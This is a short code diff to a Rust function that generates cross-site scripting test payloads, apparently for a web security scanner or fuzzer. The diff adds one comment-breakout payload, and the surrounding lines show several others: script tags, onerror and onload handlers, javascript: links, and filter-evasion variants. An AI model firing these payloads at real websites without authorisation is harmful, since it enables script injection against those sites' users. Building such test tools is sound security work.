@@ -145,6 +145,7 @@ fn basic(count: usize) -> Vec<String> {
         format!("<script>{M}(1)</script>"),
         format!("\"'><img src=x onerror={M}(1)>"),
         format!("--></title></textarea></style></noscript></select></template><svg onload={M}(1)>"),
+        format!("--!><img src=x onerror={M}(1)>"),
         format!("<a href=\"javascript:{M}(1)\">x</a>"),
         format!("<ScRiPt/x>{M}(1)</sCrIpT >"),
         format!("<scr<script>ipt>{M}(1)</scr</script>ipt>"),
